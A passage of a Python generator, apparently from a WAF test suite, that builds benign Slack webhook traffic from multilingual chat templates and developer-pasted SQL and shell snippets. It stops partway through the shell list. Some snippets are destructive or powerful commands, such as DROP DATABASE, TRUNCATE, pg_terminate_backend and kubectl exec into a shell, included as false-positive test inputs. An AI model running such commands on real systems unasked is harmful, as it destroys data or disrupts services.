"""Benign Slack traffic, second generation: ~1,500 requests as Slack itself sends them to the gateway's Slack
routes, carrying what an engineering company's workspace says. Nothing here is an attack; the WAF must let all of
it through.

Routes (from gateway/gateway.yaml `routes:` and app/routes/slack.py, app/account/):
  /slack/events        Events API JSON: url_verification and event_callback envelopes (message and its subtypes
                       message_changed, message_deleted, thread_broadcast, bot_message, file_share, me_message;
                       app_mention, reaction_added, member_joined_channel, channel_created, app_home_opened,
                       link_shared, team_join, user_change), with rich_text blocks and attachments.
  /slack/commands      slash commands, application/x-www-form-urlencoded as Slack posts them.
  /slack/interactions  the form field `payload` holding JSON: block_actions, view_submission, shortcut,
                       message_action.
  /auth/slack/link/..  the bot's one-time sign-in link form, and the /me/ forms of a user signed in with Slack.

Content: everyday chat in several languages and scripts with emoji shortcodes and Slack markup, and above all
developers pasting code: SQL of every kind, shell sessions, snippets in many languages, stack traces, templates,
configs, nginx, logs, regexes, paths, URLs, error messages, and a security team quoting what a WAF alert caught.
Message `text` is escaped the way Slack escapes it (&amp; &lt; &gt;); rich_text blocks carry the raw characters.

Authorship and independence: written from general knowledge of the Slack platform and of real engineering chat,
without reading the WAF's rules (lua/), the gateway's waf/exclusion settings, any ruleset or its tests, the shared
corpus, or the other generators' payload and text lists; only the family_gen `_form`/`_json` request helpers are
reused. Deterministic: one seeded random.Random, timestamps increasing from a fixed epoch, no clock.
Ids: slack2-benign-<kind>-NNNN; category "benign"; sub = the kind of payload; placement "json" or "form".
"""

from __future__ import annotations

import html
import json
import random
import re
import string
import urllib.parse
from collections.abc import Callable, Iterator
from typing import Any

from .family_gen import _form, _json
from .records import no_attacks
from .records import slack_escape as escape

SEED = 20240622
EPOCH = 1719046800          # 2024-06-22 09:00:00 UTC; every record moves the clock forward
SLACK_UA = "Slackbot 1.0 (+https://api.slack.com/robots)"
BROWSER_UAS = [
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 "
    "Safari/605.1.15",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.5 Mobile/15E148 Safari/604.1",
]

Part = tuple[Any, ...]

# ---- the workspace ---------------------------------------------------------------------------------------

PEOPLE = [
    ("ana.silva", "Ana Silva"), ("jkowalski", "Jakub Kowalski"), ("mei.chen", "陈美"), ("tkaur", "Tanvir Kaur"),
    ("oleksandr", "Олександр Бондаренко"), ("yuki.tanaka", "田中 由紀"), ("fatima.z", "فاطمة الزهراء"),
    ("lars.n", "Lars Nilsson"), ("priya.r", "Priya Raman"), ("diego", "Diego Fernández"), ("sven", "Sven Müller"),
    ("noa.levi", "נועה לוי"), ("ahmed.h", "Ahmed Hassan"), ("minji", "김민지"), ("giulia", "Giulia Romano"),
    ("pierre.d", "Pierre Dubois"), ("erik.j", "Erik Johansson"), ("wei.zhang", "张伟"), ("aylin", "Aylin Yılmaz"),
    ("chidi", "Chidi Okafor"), ("maria.p", "Мария Петрова"), ("lucas", "Lucas Oliveira"), ("hannah", "Hannah Becker"),
    ("raj", "Rajesh Iyer"), ("sofia", "Sofía Martínez"), ("tom.w", "Tom Walsh"), ("nguyen.an", "Nguyễn Văn An"),
    ("eleni", "Ελένη Παπαδοπούλου"), ("kofi", "Kofi Mensah"), ("ines", "Inês Costa"),
]
CHANNELS = ["general", "random", "dev", "backend", "frontend", "infra", "sre-oncall", "incidents", "deploys",
            "db-migrations", "security", "data-eng", "mobile", "qa", "design", "team-payments", "team-search",
            "help-kubernetes", "til", "code-review", "alerts-prod", "ci-failures", "berlin-office",
            "tokyo-office", "platform", "api-consumers", "release-train", "perf", "observability", "lunch"]
SERVICES = ["billing-api", "auth-service", "jeeves", "search-indexer", "payments-worker", "notification-svc",
            "web-frontend", "edge-gateway", "ledger", "reporting-etl", "media-resizer", "checkout", "catalog-api"]
TABLES = {
    "users": ["email", "created_at", "last_login_at", "team_id", "is_active", "locale"],
    "orders": ["status", "customer_id", "total_cents", "created_at", "updated_at", "currency"],
    "invoices": ["account_id", "amount_cents", "due_date", "paid_at", "status"],
    "payments": ["invoice_id", "provider", "amount_cents", "captured_at", "failure_code"],
    "sessions": ["user_id", "expires_at", "ip", "user_agent"],
    "audit_log": ["actor", "action", "target", "created_at"],
    "subscriptions": ["account_id", "plan", "status", "renews_at", "canceled_at"],
    "feature_flags": ["name", "enabled", "rollout_percent", "updated_by"],
    "line_items": ["order_id", "sku", "quantity", "unit_price_cents"],
    "slack_events": ["event_id", "team_id", "received_at", "type"],
    "usage_log": ["user_id", "action", "outcome", "duration_ms"],
    "memberships": ["user_id", "team_id", "role", "invited_by"],
}
NAMESPACES = ["prod", "staging", "payments", "observability", "kube-system", "search", "ci", "data"]
REGIONS = ["eu-west-1", "eu-central-1", "us-east-1", "us-west-2", "ap-northeast-1", "sa-east-1"]
REPOS = ["billing", "platform", "web", "jeeves", "infra", "mobile-app", "search", "data-pipelines", "edge"]
HOSTS = ["db-primary.internal", "pg-replica-2.prod.internal", "redis-01.prod.internal", "web-03", "worker-7",
         "bastion.prod.acme.io", "es-data-4.search.internal", "kafka-2.internal", "ci-runner-12", "api.acme.io"]
CITIES = ["Berlin", "São Paulo", "Zürich", "Kraków", "東京", "New York, NY", "St. John's", "Saint-Étienne",
          "Ho Chi Minh City", "Bengaluru", "Tel Aviv-Yafo", "القاهرة", "København", "Москва", "Seoul", "Reykjavík",
          "Lagos", "Mexico City", "İstanbul", "Αθήνα", "Montréal", "Köln", "上海", "Kyiv", "Porto", "Nairobi"]
ISSUE_KEYS = ["PAY", "SRE", "SEC", "WEB", "DATA", "PLAT", "SRCH", "MOB"]
EMOJI = {"thumbsup": "1f44d", "+1": "1f44d", "eyes": "1f440", "tada": "1f389", "fire": "1f525",
         "white_check_mark": "2705", "pray": "1f64f", "joy": "1f602", "rocket": "1f680", "sweat_smile": "1f605",
         "thinking_face": "1f914", "heart": "2764-fe0f", "warning": "26a0-fe0f", "bug": "1f41b", "coffee": "2615",
         "scream": "1f631", "sob": "1f62d", "raised_hands": "1f64c", "muscle": "1f4aa", "100": "1f4af",
         "shrug": "1f937", "facepalm": "1f926", "rotating_light": "1f6a8", "shield": "1f6e1-fe0f",
         "skull": "1f480", "wave": "1f44b", "ramen": "1f35c", "sunny": "2600-fe0f", "sparkles": "2728",
         "hourglass_flowing_sand": "23f3", "x": "274c", "bulb": "1f4a1", "memo": "1f4dd", "pizza": "1f355"}
CUSTOM_EMOJI = ["party_parrot", "shipit", "this", "lgtm", "kubernetes", "postgres", "blob-wave", "meow_party",
                "catjam", "done", "on-it", "nod", "typingcat", "yay", "sadpanda", "python", "rust", "gopher"]
USER_AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 "
    "Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0",
    "curl/8.5.0", "python-requests/2.32.3", "Go-http-client/1.1", "okhttp/4.12.0", "kube-probe/1.29",
    "Prometheus/2.51.0", "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", "ELB-HealthChecker/2.0",
    "PostmanRuntime/7.39.0", "Apache-HttpClient/4.5.14 (Java/17.0.9)", "GitHub-Hookshot/8f3c2a1",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "axios/1.7.2",
    "Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/AP2A.240605.024)", "node-fetch/1.0 (+https://github.com/"
    "bitinn/node-fetch)", "Datadog Agent/7.54.0",
]
API_PATHS = [
    "/api/v1/orders?status=pending&page=%n%&per_page=50", "/api/v1/users/%id%", "/api/v1/users/%id%/avatar",
    "/search?q=winter+jacket&sort=price_asc&page=2", "/static/js/main.%hex%.js", "/healthz", "/readyz",
    "/login?next=%2Fdashboard%2Fbilling", "/graphql", "/api/v2/reports/export?format=csv&from=%ymd%&to=%ymd%",
    "/.well-known/openid-configuration", "/favicon.ico", "/metrics", "/api/v1/invoices/%id%/pdf",
    "/api/v1/orders/%id%/refunds", "/webhooks/stripe", "/api/v1/search?q=caf%C3%A9&lang=fr",
    "/checkout/confirm?session_id=cs_live_%hex%", "/api/v1/feature-flags?env=prod", "/oauth/token",
    "/assets/fonts/Inter-Regular.woff2", "/api/v1/teams/%id%/members?role=admin&include=profile",
]

# ---- text templates --------------------------------------------------------------------------------------
# Markup in templates: {@} a user mention, {#} a channel, {link} a labelled link, {url} a bare link,
# {!here}/{!channel} a broadcast, `x` inline code, *x* bold, :name: an emoji. %key% is filled from the vocabulary.

CHAT = [
    "morning all :wave: standup in 5",
    "anyone else seeing the staging cluster being slow today?",
    "lunch? :ramen: thinking of the new place on the corner",
    "PTO tomorrow, {@} is covering on-call :pray:",
    "congrats {@} on the launch :tada: :tada:",
    "{!here} reminder: retro at 15:00 in the big room (or {link})",
    "can someone review {link}? it's small, promise :sweat_smile:",
    "moving this to {#} so we don't spam the channel",
    "I'll be 10 min late to the sync, train stuck again :facepalm:",
    "has anyone got the wifi password for the 3rd floor?",
    "ship it :shipit:",
    "lgtm :lgtm: merged",
    "the coffee machine on 2 is fixed :coffee: :raised_hands:",
    "who owns %svc% these days? {@}?",
    "heads up: %svc% deploy freeze from Thursday 18:00 until Monday",
    "thanks for the quick fix {@} :100:",
    "I can't reproduce it locally, can you share the exact steps?",
    "brb, meeting",
    "new joiner alert: please welcome {@} to the platform team :blob-wave:",
    "is the all-hands recorded? I'm in a different timezone this week",
    "friendly reminder to fill in the engineering survey {link}",
    "*Decision:* we go with Postgres 16 for the new cluster. Notes in {link}",
    "Guten Morgen zusammen! Wer hat heute Zeit für ein kurzes Pairing? :coffee:",
    "Kann mal jemand über meinen PR schauen? {link} Danke!",
    "Ich bin morgen im Homeoffice, erreichbar wie immer über Slack.",
    "Bonjour à tous ! La mise en prod est prévue pour 14h, je vous tiens au courant :rocket:",
    "Est-ce que quelqu'un sait pourquoi la CI est rouge depuis ce matin ?",
    "Merci {@} pour le coup de main, c'était exactement ça :pray:",
    "¡Buenos días! ¿Alguien sabe si el despliegue de ayer salió bien?",
    "Hoy trabajo desde la oficina de Madrid, si alguien quiere tomar un café :coffee:",
    "¿Quién puede revisar el PR de migraciones? {link}",
    "Bom dia, pessoal! Alguém sabe por que o build está falhando?",
    "Valeu {@}! Funcionou perfeitamente :muscle:",
    "Vou sair mais cedo hoje, consulta médica. Volto amanhã.",
    "おはようございます！今日のデプロイは15時からです :rocket:",
    "これ本番で実行しても大丈夫ですか？ {@} さん確認お願いします :pray:",
    "すみません、ミーティングに5分遅れます :bow:",
    "大家好，今天下午三点开周会，别忘了 :memo:",
    "这个报错有人见过吗？我在本地复现不了 :thinking_face:",
    "谢谢 {@}，问题已经解决了 :white_check_mark:",
    "Всем привет! Кто-нибудь сталкивался с таймаутами на staging?",
    "Спасибо {@}, всё заработало :fire:",
    "Коллеги, деплой переносим на завтра, подробности в {#}",
    "Привіт усім! Сьогодні працюю з Києва, якщо що — пишіть :wave:",
    "Дякую за рев'ю, виправив коментарі :white_check_mark:",
    "안녕하세요! 오늘 배포 일정 공유드립니다 {link}",
    "이거 왜 이런지 아시는 분 계신가요? :thinking_face:",
    "Cześć! Czy ktoś wie, o co chodzi z tym błędem na CI?",
    "Dzięki {@}, działa :tada:",
    "Günaydın! Bugünkü toplantı 14:00'te mi?",
    "Bunu gören oldu mu? Staging'de sürekli 502 alıyorum",
    "नमस्ते टीम! आज का डिप्लॉय शाम 5 बजे होगा :rocket:",
    "मुझे यह एरर मिल रहा है, कोई मदद कर सकता है?",
    "صباح الخير للجميع! الاجتماع اليوم الساعة العاشرة :sunny:",
    "هل واجه أحدكم هذا الخطأ من قبل؟",
    "בוקר טוב! מישהו נתקל בבעיה הזאת ב-staging?",
    "תודה {@}, עבד מצוין :pray:",
    "Chào mọi người! Hôm nay mình deploy lúc 3 giờ chiều nhé",
    "Καλημέρα σε όλους! Ποιος έχει χρόνο για code review;",
    "Hej allihopa! Fika kl 15 i köket :coffee:",
    "Buongiorno! Qualcuno sa perché la pipeline è bloccata?",
    "Goedemorgen! Wie kan er even naar mijn PR kijken? {link}",
    "Habari za asubuhi! Deploy ya leo imefanikiwa :tada:",
    "ok :+1:", "+1", "same here :eyes:", "done :white_check_mark:", "on it :on-it:", "nice :fire: :fire: :fire:",
    ":thinking_face:", "hmm", "thanks!", "ty :pray:", "haha :joy:", "this :this:", ":party_parrot: :party_parrot:",
    "Sounds good — let's sync after lunch.", "no worries, happens to everyone :sweat_smile:",
    "“quotes” — ‘single’ … and the em dash — all in one message, because macOS autocorrect",
    "Price went from €12.50 to €14 & nobody told us? :scream:",
    "50% of the requests < 100 ms, p99 > 2 s — the long tail is the problem",
    "ETA ~2h, I'll ping you when it's green",
    "Reminder: the office is closed on Monday (public holiday) :palm_tree:",
    "who's up for the hackathon? team sign-up sheet: {link}",
    "🎉 we hit 1M requests/day on %svc% 🎉",
    "Can we please not use `@channel` for lunch announcements :sweat_smile:",
    "status: :hourglass_flowing_sand: waiting for CI, then :rocket:",
]
INTROS = {
    "sql": ["this query takes %sec%s on the prod replica, any idea why?", "ran this on staging:",
            "here's the query I'm using for the report:", "can someone sanity-check this migration before I run it?",
            "fyi the fix for {link} was just this:", "EXPLAIN says:", "the slow one from the Grafana panel:",
            "Diese Query ist auf prod extrem langsam, Ideen?", "Cette requête bloque la table, un avis ?",
            "Esta consulta tarda muchísimo, ¿me ayudan?", "このクエリが遅いです、インデックス足りない？",
            "这个SQL在从库上跑了%sec%秒", "Этот запрос выполняется %sec% секунд, что не так?",
            "planning to run this during the maintenance window, {@} can you double check?",
            "for the record, this is how I cleaned up the duplicates:", "draft for the backfill:",
            "what the ORM actually generates :facepalm:", "quick one for the data folks:"],
    "shell": ["how I got the logs:", "run this and paste the output pls", "one-liner of the day :sparkles:",
              "this is what I ran on %host%:", "fwiw I use this alias:", "to reproduce:",
              "hier der Befehl, den ich benutzt habe:", "voilà ce que j'ai lancé :", "esto es lo que ejecuté:",
              "実行したコマンド:", "我是这样跑的:", "вот что я запускал:", "handy for the on-call doc:",
              "if the pod is stuck, try:", "cleanup for the CI runners:", "quick check before the deploy:"],
    "code": ["what do you think about this approach?", "found the bug :bug:", "minimal repro:",
             "this should do it:", "PR incoming, but roughly:", "why does this not work? :thinking_face:",
             "TIL you can do this:", "review comment on {link} — I'd rather write it like this:",
             "so this is the offending code:", "Ist das so idiomatisch?", "C'est propre comme ça ?",
             "¿Esto tiene sentido?", "こんな感じでどうですか？", "这样写可以吗？", "Так нормально?",
             "from the legacy module, don't judge :sweat_smile:", "the helper I mentioned in standup:"],
    "trace": ["getting this when I run `make test`:", "prod just threw this :rotating_light:",
              "stack trace from Sentry {link}", "seeing this in %svc% since the last deploy:",
              "any idea? started after bumping deps", "CI fails with:", "Fehler beim Start:",
              "erreur au démarrage :", "error al arrancar:", "起動時にこのエラーが出ます:", "启动时报错:",
              "ошибка при старте:", "crash on the %env% pods, {@} is this yours?"],
    "config": ["current config:", "this is the diff I want to apply:", "does this look right?",
               "the values we use on %env%:", "the relevant part of the file:", "config from {link}",
               "Konfiguration sieht so aus:", "la conf actuelle :", "config actual:", "現在の設定:",
               "the workflow file:", "copying the manifest here for reference:"],
    "log": ["logs from the incident window:", "this is what the access log says:", "grep'd from %host%:",
            "the error log is full of these:", "from Kibana {link}", "a sample from the last 5 minutes:",
            "Logs aus dem Zeitraum:", "les logs :", "los logs:", "ログ抜粋:", "日志如下:", "логи:"],
    "regex": ["does this regex look right to you?", "regex golf time :golf:", "I ended up with this pattern:",
              "this matches too much, help?", "for the log parser:", "TIL about lookbehinds:"],
}
OUTROS = ["", "", "", "", "thanks in advance :pray:", "cc {@}", ":eyes:", "PR: {link}",
          "I think it's the missing index on `%col%`", "works locally :shrug:", "any ideas?",
          "ticket: {link}", "(this is on %env%)", "will write it up in {#}", "fixed by reverting for now",
          "Danke!", "merci !", "¡gracias!", "ありがとうございます！", "谢谢！", "спасибо!", "obrigado!",
          "*Update:* it was DNS. It's always DNS.", "_edit: typo_", "not urgent", "urgent-ish :rotating_light:",
          "tested on %env%, looks fine", "thoughts {@}?", "see also {#}"]

SQL = [
    "SELECT u.id, u.email, count(o.id) AS orders\nFROM users u\nLEFT JOIN orders o ON o.customer_id = u.id "
    "AND o.status = 'paid'\nWHERE u.created_at >= now() - interval '%n% days'\nGROUP BY u.id, u.email\n"
    "HAVING count(o.id) > %n2%\nORDER BY orders DESC\nLIMIT 50;",
    "SELECT id, 'invoice' AS kind, amount_cents, created_at FROM invoices WHERE account_id = %id%\nUNION ALL\n"
    "SELECT id, 'refund', -amount_cents, created_at FROM refunds WHERE account_id = %id%\nORDER BY created_at DESC;",
    "SELECT %col%, count(*) FROM %table% GROUP BY 1 ORDER BY 2 DESC LIMIT 20;",
    "DROP TABLE IF EXISTS tmp_backfill_%ymdc%;",
    "ALTER TABLE %table% ADD COLUMN archived_at timestamptz;\nCREATE INDEX CONCURRENTLY IF NOT EXISTS "
    "idx_%table%_archived_at ON %table% (archived_at) WHERE archived_at IS NOT NULL;",
    "EXPLAIN (ANALYZE, BUFFERS) SELECT * FROM orders WHERE customer_id = %id% AND status IN ('pending', "
    "'authorized') ORDER BY created_at DESC LIMIT 20;",
    "Limit  (cost=0.43..8.45 rows=1 width=72) (actual time=0.031..0.032 rows=1 loops=1)\n"
    "  ->  Index Scan using users_email_key on users  (cost=0.43..8.45 rows=1 width=72) "
    "(actual time=0.030..0.030 rows=1 loops=1)\n        Index Cond: (email = '%email%'::text)\n"
    "Planning Time: 0.112 ms\nExecution Time: 0.051 ms",
    "Gather Merge  (cost=%big%.12..%big2%.55 rows=84211 width=48) (actual time=%ms%..%ms2% rows=81234 loops=1)\n"
    "  Workers Planned: 2\n  Workers Launched: 2\n  ->  Sort  (cost=1000.10..1087.82 rows=35088 width=48)\n"
    "        Sort Key: created_at DESC\n        Sort Method: external merge  Disk: 4512kB\n"
    "        ->  Parallel Seq Scan on orders  (cost=0.00..%big%.88 rows=35088 width=48)\n"
    "              Filter: ((status)::text = 'pending'::text)\n              Rows Removed by Filter: 2291843\n"
    "Planning Time: 0.402 ms\nExecution Time: %ms% ms",
    "Hash Join  (cost=412.50..9120.33 rows=1520 width=64)\n  Hash Cond: (li.order_id = o.id)\n"
    "  ->  Seq Scan on line_items li  (cost=0.00..7311.00 rows=300000 width=24)\n"
    "  ->  Hash  (cost=393.50..393.50 rows=1520 width=40)\n"
    "        ->  Bitmap Heap Scan on orders o  (cost=32.20..393.50 rows=1520 width=40)\n"
    "              Recheck Cond: (customer_id = %id%)\n"
    "              ->  Bitmap Index Scan on idx_orders_customer_id  (cost=0.00..31.82 rows=1520 width=0)",
    "WITH ranked AS (\n  SELECT s.*, row_number() OVER (PARTITION BY account_id ORDER BY created_at DESC) AS rn\n"
    "  FROM subscriptions s\n)\nSELECT account_id, plan, status FROM ranked WHERE rn = 1 AND status <> 'active';",
    "UPDATE subscriptions SET status = 'canceled', canceled_at = now()\nWHERE id IN (SELECT subscription_id "
    "FROM refunds WHERE reason = 'fraud')\nRETURNING id;",
    "DELETE FROM sessions WHERE expires_at < now() - interval '7 days';  -- ~%big% rows, maybe in batches?",
    "INSERT INTO feature_flags (name, enabled, rollout_percent)\nVALUES ('new_checkout', false, 0)\n"
    "ON CONFLICT (name) DO UPDATE SET rollout_percent = EXCLUDED.rollout_percent;",
    "SELECT pid, now() - query_start AS age, state, wait_event_type, left(query, 80)\nFROM pg_stat_activity\n"
    "WHERE state <> 'idle'\nORDER BY age DESC;",
    "SELECT pg_terminate_backend(pid) FROM pg_stat_activity\nWHERE state = 'idle in transaction' AND now() - "
    "state_change > interval '10 minutes';",
    "SELECT blocked.pid, blocked.query, blocking.pid AS blocking_pid, blocking.query AS blocking_query\n"
    "FROM pg_stat_activity blocked\nJOIN pg_stat_activity blocking ON blocking.pid = ANY(pg_blocking_pids("
    "blocked.pid));",
    "SELECT table_name, round((data_length + index_length) / 1024 / 1024) AS mb\nFROM information_schema.tables\n"
    "WHERE table_schema = 'shop'\nORDER BY mb DESC\nLIMIT 10;",
    "SHOW FULL PROCESSLIST;\n+-----+------+-----------+------+---------+------+----------+------------------+\n"
    "| Id  | User | Host      | db   | Command | Time | State    | Info             |\n"
    "+-----+------+-----------+------+---------+------+----------+------------------+\n"
    "| 412 | app  | 10.0.3.14 | shop | Query   |  %n% | updating | UPDATE orders... |\n"
    "+-----+------+-----------+------+---------+------+----------+------------------+",
    "GRANT SELECT ON ALL TABLES IN SCHEMA analytics TO metabase_ro;\nALTER DEFAULT PRIVILEGES IN SCHEMA analytics "
    "GRANT SELECT ON TABLES TO metabase_ro;\nREVOKE ALL ON SCHEMA public FROM PUBLIC;",
    "TRUNCATE TABLE staging.raw_events RESTART IDENTITY;",
    "SELECT payload->>'type' AS type, count(*)\nFROM slack_events\nWHERE received_at > now() - interval '1 hour'\n"
    "GROUP BY 1 ORDER BY 2 DESC;",
    "SELECT * FROM %table% WHERE %col% IS NULL LIMIT 10;",
    " id  |         email          | orders\n-----+------------------------+--------\n %id% | %email% |     17\n"
    " 977 | k.mensah@example.com   |      9\n(2 rows)",
    "ERROR:  duplicate key value violates unique constraint \"users_email_key\"\nDETAIL:  Key (email)=(%email%) "
    "already exists.",
    "ERROR:  column \"%col%\" does not exist\nLINE 1: SELECT %col% FROM orders WHERE id = %id%;\n"
    "               ^\nHINT:  Perhaps you meant to reference the column \"orders.updated_at\".",
    "ERROR 1205 (HY000): Lock wait timeout exceeded; try restarting transaction",
    "ERROR:  canceling statement due to statement timeout\nCONTEXT:  SQL statement \"UPDATE orders SET status = "
    "'expired' WHERE created_at < now() - interval '30 days'\"",
    "BEGIN;\nUPDATE orders SET status = 'refunded' WHERE id = %id%;\n-- check before committing\n"
    "SELECT id, status, updated_at FROM orders WHERE id = %id%;\nCOMMIT;",
    "CREATE TABLE IF NOT EXISTS webhook_deliveries (\n    id          bigserial PRIMARY KEY,\n"
    "    endpoint_id bigint NOT NULL REFERENCES endpoints(id) ON DELETE CASCADE,\n    status      smallint,\n"
    "    attempt     int NOT NULL DEFAULT 1,\n    payload     jsonb NOT NULL,\n"
    "    created_at  timestamptz NOT NULL DEFAULT now()\n);",
    "DROP DATABASE IF EXISTS app_test_%n%;",
    "ALTER TABLE orders DROP COLUMN legacy_status;  -- only after the deploy that stops reading it!",
    "SELECT table_schema, table_name FROM information_schema.columns WHERE column_name = 'email';",
    "SELECT relname, n_dead_tup, last_autovacuum\nFROM pg_stat_user_tables\nORDER BY n_dead_tup DESC\nLIMIT 10;",
    "VACUUM (VERBOSE, ANALYZE) %table%;",
    "SELECT pg_size_pretty(pg_total_relation_size('%table%'));",
    "SELECT date_trunc('hour', created_at) AS h,\n       count(*) FILTER (WHERE status >= 500) AS errors,\n"
    "       count(*) AS total\nFROM request_log\nWHERE created_at > now() - interval '1 day'\nGROUP BY 1\n"
    "ORDER BY 1;",
    "SELECT id, email, NULL AS team FROM users WHERE deleted_at IS NOT NULL\nUNION\n"
    "SELECT u.id, u.email, t.name FROM users u JOIN teams t ON t.id = u.team_id WHERE t.plan = 'free';",
    "SELECT * FROM users WHERE email LIKE '%@acme.io' AND NOT is_staff;",
    "CREATE MATERIALIZED VIEW daily_revenue AS\nSELECT date_trunc('day', captured_at) AS day, sum(amount_cents) "
    "/ 100.0 AS revenue\nFROM payments\nGROUP BY 1;\n\nREFRESH MATERIALIZED VIEW CONCURRENTLY daily_revenue;",
    "SELECT user_id, ARRAY_AGG(DISTINCT event_name) AS events\nFROM `analytics.events_2024*`\nWHERE _TABLE_SUFFIX "
    "BETWEEN '0601' AND '0622'\nGROUP BY 1",
    "sqlite> .schema orders\nCREATE TABLE orders (id INTEGER PRIMARY KEY, status TEXT NOT NULL, total REAL);\n"
    "sqlite> SELECT count(*) FROM orders WHERE status = 'open';\n%n%",
    "SELECT toStartOfMinute(ts) AS m, quantile(0.99)(duration_ms) AS p99\nFROM http_requests\n"
    "WHERE service = '%svc%' AND ts > now() - INTERVAL 1 HOUR\nGROUP BY m\nORDER BY m",
    "/* reporting query, owner: data-eng */\nSELECT c.country, sum(o.total_cents) / 100 AS revenue\n"
    "FROM orders o\nINNER JOIN customers c ON c.id = o.customer_id\nWHERE o.created_at BETWEEN '%ymd%' AND "
    "'%ymd2%'\nGROUP BY c.country;",
    "SELECT CASE WHEN amount_cents >= 100000 THEN 'large'\n            WHEN amount_cents >= 10000 THEN 'medium'\n"
    "            ELSE 'small' END AS bucket,\n       count(*)\nFROM payments\nGROUP BY 1;",
    "SELECT version();", "SHOW server_version;", "SELECT 1;",
    "SELECT pg_sleep(5); -- repro for the statement_timeout alert, don't panic",
    "db.orders.find({ status: \"pending\", createdAt: { $lt: ISODate(\"%ymd%T00:00:00Z\") } })"
    ".sort({ createdAt: -1 }).limit(10)",
    "db.users.aggregate([\n  { $match: { plan: \"pro\" } },\n  { $group: { _id: \"$country\", n: { $sum: 1 } } },\n"
    "  { $sort: { n: -1 } }\n])",
    "def upgrade() -> None:\n    op.add_column(\"%table%\", sa.Column(\"archived_at\", sa.DateTime(timezone=True), "
    "nullable=True))\n    op.create_index(\"ix_%table%_archived_at\", \"%table%\", [\"archived_at\"])\n\n\n"
    "def downgrade() -> None:\n    op.drop_index(\"ix_%table%_archived_at\", table_name=\"%table%\")\n"
    "    op.drop_column(\"%table%\", \"archived_at\")",
    "class Migration(migrations.Migration):\n    dependencies = [(\"billing\", \"0042_invoice_due_date\")]\n\n"
    "    operations = [\n        migrations.AddField(\n            model_name=\"invoice\",\n"
    "            name=\"paid_at\",\n            field=models.DateTimeField(null=True, blank=True),\n"
    "        ),\n        migrations.RunSQL(\"UPDATE billing_invoice SET paid_at = updated_at WHERE status = "
    "'paid'\", migrations.RunSQL.noop),\n    ]",
    "class AddShippedAtToOrders < ActiveRecord::Migration[7.1]\n  def change\n"
    "    add_column :orders, :shipped_at, :datetime\n    add_index :orders, :shipped_at, algorithm: :concurrently\n"
    "  end\nend",
    "model Order {\n  id         Int      @id @default(autoincrement())\n  status     String   @default(\"pending\")\n"
    "  customerId Int\n  customer   Customer @relation(fields: [customerId], references: [id])\n"
    "  createdAt  DateTime @default(now())\n  @@index([customerId, createdAt])\n}",
    "const rows = await db.raw('SELECT * FROM users WHERE team_id = ? AND is_active = ?', [teamId, true]);",
    "Order.objects.filter(status=\"paid\", created_at__gte=since).select_related(\"customer\")"
    ".values(\"customer__country\").annotate(n=Count(\"id\"))",
    "ALTER TABLE %table% RENAME COLUMN %col% TO %col%_old;\n-- rollback:\n"
    "-- ALTER TABLE %table% RENAME COLUMN %col%_old TO %col%;",
    "SELECT o.id, o.total_cents, p.provider, p.failure_code\nFROM orders o\nLEFT OUTER JOIN payments p "
    "ON p.invoice_id = o.invoice_id\nWHERE p.failure_code IS NOT NULL\n  AND o.created_at > current_date - 7\n"
    "ORDER BY o.created_at DESC;",
    "SELECT count(*) AS n, min(created_at), max(created_at) FROM audit_log WHERE actor = 'system' AND action "
    "= 'user.delete';",
    "DROP INDEX CONCURRENTLY IF EXISTS idx_orders_status;\nCREATE INDEX CONCURRENTLY idx_orders_status_created "
    "ON orders (status, created_at DESC);",
    "SELECT conname, pg_get_constraintdef(oid) FROM pg_constraint WHERE conrelid = '%table%'::regclass;",
    "SET lock_timeout = '5s';\nSET statement_timeout = '15min';\nALTER TABLE payments ALTER COLUMN provider SET "
    "NOT NULL;",
    "MERGE INTO inventory t\nUSING staged_inventory s ON t.sku = s.sku\nWHEN MATCHED THEN UPDATE SET quantity = "
    "s.quantity\nWHEN NOT MATCHED THEN INSERT (sku, quantity) VALUES (s.sku, s.quantity);",
    "SELECT * FROM orders o WHERE NOT EXISTS (SELECT 1 FROM payments p WHERE p.invoice_id = o.invoice_id) AND "
    "o.status = 'paid';",
    "COPY (SELECT id, email, created_at FROM users WHERE team_id = %id%) TO STDOUT WITH CSV HEADER",
    "\\copy orders TO '/tmp/orders_%ymdc%.csv' WITH (FORMAT csv, HEADER)",
]
SQL_ONELINERS = ["SELECT count(*) FROM %table%", "SELECT * FROM %table% ORDER BY id DESC LIMIT 5",
                 "SELECT max(created_at) FROM orders", "EXPLAIN ANALYZE SELECT * FROM users WHERE email = '%email%'",
                 "SELECT id, status FROM orders WHERE id = %id%", "SELECT now() - pg_last_xact_replay_timestamp()",
                 "SELECT %col% FROM %table% WHERE id = %id%", "SHOW max_connections",
                 "SELECT state, count(*) FROM pg_stat_activity GROUP BY 1",
                 "SELECT name, enabled FROM feature_flags WHERE name LIKE 'checkout_%'"]

SHELL = [
    "kubectl get pods -n %ns% | grep -v Running",
    "kubectl logs -n %ns% deploy/%svc% --since=15m | grep -i error | tail -n 50",
    "kubectl rollout restart deployment/%svc% -n %ns% && kubectl rollout status deployment/%svc% -n %ns%",
    "kubectl exec -it %pod% -n %ns% -- /bin/sh",
    "$ kubectl describe pod %pod% -n %ns%\n...\nEvents:\n  Type     Reason     Age   From     Message\n"
    "  ----     ------     ----  ----     -------\n  Warning  BackOff    2m    kubelet  Back-off restarting failed "
    "container\n  Normal   Pulled     3m    kubelet  Container image \"ghcr.io/acme/%svc%:%ver%\" already present\n"
